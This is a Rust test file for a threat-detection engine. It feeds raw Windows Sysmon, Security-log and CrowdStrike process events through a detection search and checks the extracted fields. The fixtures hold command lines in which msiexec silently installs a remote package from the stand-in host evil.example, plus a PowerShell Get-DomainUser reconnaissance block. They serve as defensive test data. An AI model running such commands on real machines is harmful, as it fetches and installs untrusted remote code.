//! The conformance vectors of SPLUNK_SEMANTICS.md §10 that involve the model (CV-25 … CV-29,
//! with the 2026-12-01 revision: Sysmon `_time` is UtcTime) and ADDON_FIELDS.md TV-P1, as
//! whole runs: raw records in, through `cimhunt_engine::run`, rows out.

mod model_support;

use std::io::Cursor;
use std::sync::Arc;

use cimhunt_content::embedded_default;
use cimhunt_engine::{EventsView, Job, Meta, Options, Quiet, finish_all, run};
use cimhunt_model::Model;
use cimhunt_model::tables::{LookupTable, Profile};
use cimhunt_read::Input;
use cimhunt_spl::{MacroSet, Row, compile};
use model_support::*;

const CV25: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='2020-10-08T11:03:46.617920300Z'/><EventRecordID>4522</EventRecordID><Correlation/><Execution ProcessID='2912' ThreadID='3424'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>win-dc-6764986.attackrange.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2020-10-08 11:03:46.615</Data><Data Name='ProcessGuid'>{96128EA2-F212-5F7E-E400-000000007F01}</Data><Data Name='ProcessId'>2296</Data><Data Name='Image'>C:\Windows\System32\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /q /i http://evil.example/a.msi</Data><Data Name='CurrentDirectory'>C:\Users\ADMINI~1\AppData\Local\Temp\</Data><Data Name='User'>ATTACKRANGE\Administrator</Data><Data Name='IntegrityLevel'>High</Data><Data Name='Hashes'>MD5=F4F684066175B77E0C3A000549D2922C</Data><Data Name='ParentProcessGuid'>{96128EA2-F211-5F7E-DF00-000000007F01}</Data><Data Name='ParentProcessId'>4624</Data><Data Name='ParentImage'>C:\Windows\System32\cmd.exe</Data><Data Name='ParentCommandLine'>"C:\Windows\system32\cmd.exe" /c msiexec</Data></EventData></Event>"#;

const CV26: &str = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2024-04-23T08:48:30.449376800Z'/><EventRecordID>432820</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='276'/><Channel>Security</Channel><Computer>ar-win-1</Computer><Security/></System><EventData><Data Name='SubjectUserSid'>S-1-5-21-1-2-3-500</Data><Data Name='SubjectUserName'>Administrator</Data><Data Name='SubjectDomainName'>ATTACKRANGE</Data><Data Name='SubjectLogonId'>0x3e7</Data><Data Name='NewProcessId'>0xf84</Data><Data Name='NewProcessName'>C:\Windows\System32\msiexec.exe</Data><Data Name='TokenElevationType'>%%1936</Data><Data Name='ProcessId'>0xb2c</Data><Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn</Data><Data Name='TargetUserSid'>NULL SID</Data><Data Name='TargetUserName'>-</Data><Data Name='TargetDomainName'>-</Data><Data Name='TargetLogonId'>0x0</Data><Data Name='ParentProcessName'>C:\Windows\System32\cmd.exe</Data><Data Name='MandatoryLabel'>Mandatory Label\High Mandatory Level</Data></EventData></Event>"#;

const CV29: &str = r#"{"event_simpleName":"ProcessRollup2","timestamp":"1713805173418","aid":"168a90e125d443beb2a4e2914985084d","RawProcessId":"5012","ParentProcessId":"5459598860","ImageFileName":"\\Device\\HarddiskVolume1\\Windows\\System32\\msiexec.exe","CommandLine":"msiexec.exe /i https://evil.example/a.msi","ParentBaseFileName":"explorer.exe","UserSid":"S-1-5-21-586445407-708991241-1829972403-500"}"#;

fn input(name: &str, text: &str) -> (Input, Meta) {
    (
        Input::reader(
            name,
            Box::new(Cursor::new(format!("{text}\n").into_bytes())),
        ),
        Meta::default(),
    )
}

/// Runs one search over records (one per line), returning its rows as text cells.
fn rows_of(
    model: Arc<Model>,
    search: &str,
    macros: &MacroSet,
    records: &[&str],
) -> Vec<Vec<(String, String)>> {
    let compiled = compile(search, macros, &*model).expect("the search compiles");
    let job = Job::builder(Arc::clone(&model))
        .detection("d", compiled.plan.clone(), &compiled.expanded)
        .build()
        .expect("job");
    let options = Options {
        threads: 1,
        ..Options::default()
    };
    let inputs = records
        .iter()
        .enumerate()
        .map(|(i, r)| input(&format!("record{i}"), r))
        .collect();
    let result = run(&job, &options, inputs, &mut Quiet);
    assert_eq!(result.stats.skipped_records, 0, "{:?}", result.stats);
    let rows = finish_all(&job, result.states, &options.exec_ctx(), 1)
        .pop()
        .expect("one detection")
        .expect("rows");
    rows.iter().map(cells).collect()
}

fn cells(r: &Row) -> Vec<(String, String)> {
    r.cells()
        .iter()
        .map(|(k, v)| {
            let texts: Vec<String> = v.texts().map(|t| t.into_owned()).collect();
            (k.as_str().to_owned(), texts.join("\n"))
        })
        .collect()
}

fn seed(model: Arc<Model>, records: &[&str]) -> Vec<Vec<(String, String)>> {
    let (detection, macros) = embedded_default();
    rows_of(model, &detection.search, &macros, records)
}

/// An expected seed row.
#[allow(clippy::too_many_arguments)]
fn row(
    dest: &str,
    user: &str,
    parent: &str,
    name: &str,
    original: &str,
    process: &str,
    pid: &str,
    ppid: &str,
    time: &str,
) -> Vec<(String, String)> {
    [
        ("dest", dest),
        ("user", user),
        ("parent_process_name", parent),
        ("process_name", name),
        ("original_file_name", original),
        ("process", process),
        ("process_id", pid),
        ("parent_process_id", ppid),
        ("count", "1"),
        ("firstTime", time),
        ("lastTime", time),
    ]
    .iter()
    .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
    .collect()
}

/// The fields of the one event a dataset view presents.
fn view_of(model: Arc<Model>, dataset: &str, record: &str) -> Presented {
    let ds = model.dataset(dataset).expect("dataset");
    let job = Job::builder(Arc::clone(&model))
        .all_fields(true)
        .build()
        .expect("job");
    let options = Options {
        threads: 1,
        events: EventsView::Dataset(ds),
        ..Options::default()
    };
    let mut out = Vec::new();
    let mut each = Each {
        f: |p| out.push(p),
        errors: Vec::new(),
    };
    run(&job, &options, vec![input("record", record)], &mut each);
    assert!(each.errors.is_empty(), "{:?}", each.errors);
    assert_eq!(out.len(), 1, "one event in {dataset}");
    out.pop().unwrap_or_else(|| unreachable!())
}

#[test]
fn cv_25_raw_sysmon_1_end_to_end_with_utc_time() {
    let rows = seed(model(), &[CV25]);
    assert_eq!(
        rows,
        [row(
            "win-dc-6764986.attackrange.local",
            "Administrator",
            "cmd.exe",
            "msiexec.exe",
            "msiexec.exe",
            r#""C:\Windows\System32\msiexec.exe" /q /i http://evil.example/a.msi"#,
            "2296",
            "4624",
            "2020-10-08T11:03:46",
        )]
    );
    let p = view_of(model(), "Endpoint.Processes", CV25);
    for (field, value) in [
        ("_time", "1602155026.615"),
        ("process_path", r"C:\Windows\System32\msiexec.exe"),
        (
            "parent_process",
            r#""C:\Windows\system32\cmd.exe" /c msiexec"#,
        ),
        ("parent_process_path", r"C:\Windows\System32\cmd.exe"),
        ("process_guid", "{96128EA2-F212-5F7E-E400-000000007F01}"),
        ("process_integrity_level", "high"),
        ("process_hash", "MD5=F4F684066175B77E0C3A000549D2922C"),
        ("vendor_product", "Microsoft Sysmon"),
        ("action", "allowed"),
    ] {
        assert_eq!(p.one(field).as_deref(), Some(value), "{field}");
    }
    let keep = Arc::new(
        Model::new(&Profile::embedded("escu", &["sysmon-user-keeps-domain"]).unwrap()).unwrap(),
    );
    assert_eq!(seed(keep, &[CV25])[0][1].1, r"ATTACKRANGE\Administrator");
}

#[test]
fn cv_26_raw_security_4688_end_to_end() {
    let rows = seed(model(), &[CV26]);
    assert_eq!(
        rows,
        [row(
            "ar-win-1",
            "Administrator",
            "cmd.exe",
            "msiexec.exe",
            "unknown",
            r#""C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn"#,
            "0xf84",
            "0xb2c",
            "2024-04-23T08:48:30",
        )]
    );
    let p = view_of(model(), "Endpoint.Processes", CV26);
    for (field, value) in [
        ("parent_process", r"C:\Windows\System32\cmd.exe"),
        ("parent_process_path", r"C:\Windows\System32\cmd.exe"),
        ("action", "allowed"),
        ("vendor_product", "Microsoft Windows"),
    ] {
        assert_eq!(p.one(field).as_deref(), Some(value), "{field}");
    }
}

#[test]
fn cv_27_command_line_without_a_path_and_a_target_user() {
    let event = CV26
        .replace(
            r#"<Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn</Data>"#,
            "<Data Name='CommandLine'>msiexec /i http://evil.example/a.msi</Data>",
        )
        .replace(
            "<Data Name='TargetUserName'>-</Data>",
            "<Data Name='TargetUserName'>jdoe</Data>",
        );
    let rows = seed(model(), &[&event]);
    assert_eq!(rows.len(), 1);
    let get = |k: &str| rows[0].iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
    assert_eq!(get("user").as_deref(), Some("jdoe"));
    assert_eq!(
        get("process").as_deref(),
        Some(r"C:\Windows\System32\msiexec.exe /i http://evil.example/a.msi")
    );
    let spaced = event.replace(
        r"<Data Name='NewProcessName'>C:\Windows\System32\msiexec.exe</Data>",
        r"<Data Name='NewProcessName'>C:\Program Files\Foo\msiexec.exe</Data>",
    );
    let rows = seed(model(), &[&spaced]);
    let get = |k: &str| rows[0].iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
    assert_eq!(
        get("process").as_deref(),
        Some(r#""C:\Program Files\Foo\msiexec.exe" /i http://evil.example/a.msi"#)
    );
    assert_eq!(get("process_name").as_deref(), Some("msiexec.exe"));
}

#[test]
fn cv_28_without_command_line_auditing_the_process_is_the_image() {
    let event = CV26.replace(
        r#"<Data Name='CommandLine'>"C:\Windows\System32\msiexec.exe" /i https://evil.example/a.msi /qn</Data>"#,
        "",
    );
    assert!(seed(model(), &[&event]).is_empty());
    let p = view_of(model(), "Endpoint.Processes", &event);
    assert_eq!(
        p.one("process").as_deref(),
        Some(r"C:\Windows\System32\msiexec.exe")
    );
}

#[test]
fn cv_29_crowdstrike_process_rollup_with_the_aid_inventory() {
    let mut profile = Profile::escu().unwrap();
    profile
        .supply_lookup(
            "crowdstrike_aidmaster",
            LookupTable::parse(
                "aidmaster.csv",
                "aid,ComputerName\n168a90e125d443beb2a4e2914985084d,WIN-HOST1\n",
            )
            .unwrap(),
        )
        .unwrap();
    let model = Arc::new(Model::new(&profile).unwrap());
    let expected = row(
        "WIN-HOST1",
        "S-1-5-21-586445407-708991241-1829972403-500",
        "explorer.exe",
        "msiexec.exe",
        "unknown",
        "msiexec.exe /i https://evil.example/a.msi",
        "5012",
        "5459598860",
        "2024-04-22T16:59:33",
    );
    assert_eq!(seed(Arc::clone(&model), &[CV29]), [expected]);
    // The old normalizer's other fields.
    let p = view_of(Arc::clone(&model), "Endpoint.Processes", CV29);
    for (field, value) in [
        (
            "process_path",
            r"\Device\HarddiskVolume1\Windows\System32\msiexec.exe",
        ),
        ("vendor_product", "CrowdStrike Falcon"),
        ("action", "allowed"),
        ("_time", "1713805173.418"),
        ("sourcetype", "crowdstrike:events:sensor"),
    ] {
        assert_eq!(p.one(field).as_deref(), Some(value), "{field}");
    }
    // ComputerName in the event wins over the inventory.
    let named = CV29.replace("\"aid\":", "\"ComputerName\":\"FROM-EVENT\",\"aid\":");
    assert_eq!(seed(Arc::clone(&model), &[&named])[0][0].1, "FROM-EVENT");
    // Without the inventory (and without ComputerName) dest is the data model's fill.
    assert_eq!(seed(self::model(), &[CV29])[0][0].1, "unknown");
}

#[test]
fn tv_p1_powershell_rows_keep_the_quotes_of_user_id() {
    let event = r#"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-PowerShell' Guid='{A0C1853B-5C40-4B15-8766-3CF1C58F985A}'/><EventID>4104</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode><Keywords>0x0</Keywords><TimeCreated SystemTime='2024-03-07T12:00:00.000000000Z'/><EventRecordID>1</EventRecordID><Correlation ActivityID='{0B4B0D2A-6F2E-0001-A79C-4B0B2E6FDA01}'/><Execution ProcessID='5336' ThreadID='2228'/><Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>win-dc-mhaag-attack-range-270.attackrange.local</Computer><Security UserID='S-1-5-21-2059343465-2300599999-2417073716-500'/></System><EventData><Data Name='MessageNumber'>1</Data><Data Name='MessageTotal'>1</Data><Data Name='ScriptBlockText'>Get-DomainUser -Identity x</Data><Data Name='ScriptBlockId'>{a}</Data><Data Name='Path'></Data></EventData></Event>"#;
    let mut macros = MacroSet::with_builtins();
    macros.insert(cimhunt_spl::Macro {
        name: "powershell".into(),
        args: Vec::new(),
        definition: r#"(source=WinEventLog:Microsoft-Windows-PowerShell/Operational OR source="XmlWinEventLog:Microsoft-Windows-PowerShell/Operational")"#.into(),
        origin: "test".into(),
    });
    // ESCU writes `| stats count … by EventCode ScriptBlockText Computer UserID | rename …`;
    // `table` gives the same by-fields with the commands this branch runs.
    let rows = rows_of(
        model(),
        "`powershell` EventCode=4104 ScriptBlockText = \"*Get-DomainUser*\" | table EventCode ScriptBlockText Computer UserID | rename Computer as dest, UserID as user",
        &macros,
        &[event],
    );
    assert_eq!(rows.len(), 1);
    let get = |k: &str| rows[0].iter().find(|(n, _)| n == k).map(|(_, v)| v.clone());
    assert_eq!(
        get("user").as_deref(),
        Some("'S-1-5-21-2059343465-2300599999-2417073716-500'")
    );
    assert_eq!(
        get("dest").as_deref(),
        Some("win-dc-mhaag-attack-range-270.attackrange.local")
    );
    assert_eq!(get("EventCode").as_deref(), Some("4104"));
}

#[test]
fn events_datamodel_output_is_the_views_fields() {
    let model = model();
    for (dataset, record) in [("Endpoint.Processes", CV25), ("Endpoint.Processes", CV26)] {
        let presented = view_of(Arc::clone(&model), dataset, record);
        let win = cimhunt_decode::decode_xml(record.as_bytes()).unwrap();
        let mut want = cimhunt_model::Want::default();
        want.all();
        let meta = Meta::default();
        let ev = model.event(
            cimhunt_model::Decoded::Windows(&win),
            &meta,
            &want,
            Some(record),
        );
        let view = model.view(&ev, model.dataset(dataset).unwrap()).unwrap();
        let direct: Vec<(String, Vec<String>)> = view
            .fields()
            .into_iter()
            .map(|(k, v)| {
                (
                    k.as_str().to_owned(),
                    v.texts().map(|t| t.into_owned()).collect(),
                )
            })
            .collect();
        let shown: Vec<(String, Vec<String>)> = presented
            .fields
            .iter()
            .map(|(k, v)| {
                (
                    k.as_str().to_owned(),
                    v.texts().map(|t| t.into_owned()).collect(),
                )
            })
            .collect();
        assert_eq!(shown, direct, "{dataset}");
    }
}
